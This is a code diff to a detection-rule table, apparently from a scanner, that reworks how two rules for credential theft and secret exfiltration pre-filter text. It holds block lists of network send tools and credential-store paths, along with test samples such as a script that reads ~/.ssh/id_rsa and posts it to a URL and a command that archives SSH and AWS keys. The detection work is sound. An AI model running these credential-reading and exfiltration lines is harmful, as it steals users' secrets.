@@ -346,14 +346,15 @@ const FETCH_WORDS = [
   "downloadstring", "downloadfile", "downloaddata", "urlopen", "urlretrieve", "requests", "httpx",
 ];
 const SEND_WORDS = ["curl", "wget", "nc", "ncat", "netcat", "socat", "requests", "httpx", "invoke-restmethod", "invoke-webrequest", "fetch", "discord", "discordapp", "telegram", "scp"];
-// Every credential store CREDENTIAL_PATH names, as a literal one of its spellings must contain.
-const CREDENTIAL_LITERALS = [
-  ".ssh", ".aws/credentials", ".config/gcloud", "application_default_credentials.json", ".azure/", ".kube/config", ".docker/config.json",
-  ".netrc", ".git-credentials", ".gnupg/", "Library/Keychains", "login.keychain", "security find-", "security dump-keychain",
-  "Google/Chrome/", "Application Support/Google/Chrome", ".config/google-chrome", ".config/chromium", ".config/BraveSoftware",
-  ".mozilla/firefox", "Login Data", "key3.db", "key4.db", "logins.json", "wallet.dat", "exodus.wallet", "Electrum/wallets",
-  ".config/solana/id.json", "/etc/shadow",
+// What every spelling CREDENTIAL_PATH and SECRETS_FILE know must contain: a word those patterns
+// bound on both sides (so the word scan sees it), or, for the three spellings that bound none, a
+// literal. Words, not a literal per store: looking for 29 literals cost as much as the word scan.
+const CREDENTIAL_WORDS = [
+  "ssh", "aws", "gcloud", "azure", "kube", "docker", "netrc", "credentials", "gnupg", "login", "security", "chrome", "google", "config",
+  "mozilla", "key3", "key4", "logins", "wallet", "exodus", "solana", "etc",
 ];
+const CREDENTIAL_LITERALS = ["application_default_credentials.json", "Library/Keychains", "Electrum/wallets"];
+const mayNameCredentials = (t: Triggers): boolean => t.any(...CREDENTIAL_WORDS) || t.holds(...CREDENTIAL_LITERALS);
 
 // ---- The table -----------------------------------------------------------------------------
 
@@ -506,7 +507,7 @@ export const TEXT_RULES: readonly TextRule[] = [
       "#!file:scripts/backup.py\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post(URL, data={'k': key})",
     ],
     mustNotMatch: ["cat ~/.ssh/id_ed25519.pub", "env | curl -X POST --data-binary @- https://ci.example.com/report", "curl -d @payload.json https://api.example.com/v1", "#!file:scripts/deploy.sh\nkubectl --kubeconfig ~/.kube/config apply -f app.yaml"],
-    needs: (t) => t.any(...SEND_WORDS) && (t.holds(...CREDENTIAL_LITERALS, ".env") || t.any("env", "printenv")),
+    needs: (t) => t.any(...SEND_WORDS) && (mayNameCredentials(t) || t.any("env", "printenv")),
     scan: scanSecretExfiltration,
   },
   {
@@ -557,7 +558,7 @@ export const TEXT_RULES: readonly TextRule[] = [
     reason: "reads a credential store (SSH keys, cloud credentials, browser profiles, keychains, wallets)",
     mustMatch: ["#!file:scripts/collect.sh\ntar czf /tmp/k.tgz ~/.ssh/id_rsa ~/.aws/credentials", "cat ~/.aws/credentials", "#!file:scripts/c.py\np = home / 'Library/Application Support/Google/Chrome/Default/Login Data'"],
     mustNotMatch: ["Add your public key from ~/.ssh/id_ed25519.pub to GitHub.", "Configure credentials in ~/.aws/credentials with `aws configure`."],
-    needs: (t) => t.holds(...CREDENTIAL_LITERALS),
+    needs: mayNameCredentials,
     scan: scanCredentials,
   },
   {
